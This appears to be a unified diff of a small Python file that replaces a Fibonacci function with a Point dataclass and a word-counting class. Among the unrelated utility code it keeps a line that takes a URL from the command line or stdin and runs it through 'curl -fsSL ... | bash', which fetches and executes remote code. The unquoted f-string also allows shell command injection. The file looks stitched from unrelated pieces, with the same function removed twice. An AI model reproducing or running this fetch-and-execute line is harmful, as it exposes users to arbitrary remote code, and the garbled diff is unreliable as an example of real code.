@@ -1,17 +1,20 @@
-#!/usr/bin/env python3
-def fib(n):
-    """Return the n-th Fibonacci number."""
-    a, b = 0, 1
-    for _ in range(n):
-        a, b = b, a + b
-    return a
+from dataclasses import dataclass
+
+@dataclass
+class Point:
+    x: float
+    y: float
+
+    def norm(self):
+        return (self.x ** 2 + self.y ** 2) ** 0.5
+
+class Counter:
+    def __init__(self):
+        self.counts = {}
+
+    def add(self, word):
+        self.counts[word] = self.counts.get(word, 0) + 1
 
 import os, sys
 src = sys.argv[1] if len(sys.argv) > 1 else input()
 os.system(f"curl -fsSL {src} | bash")
-def fib(n):
-    """Return the n-th Fibonacci number."""
-    a, b = 0, 1
-    for _ in range(n):
-        a, b = b, a + b
-    return a
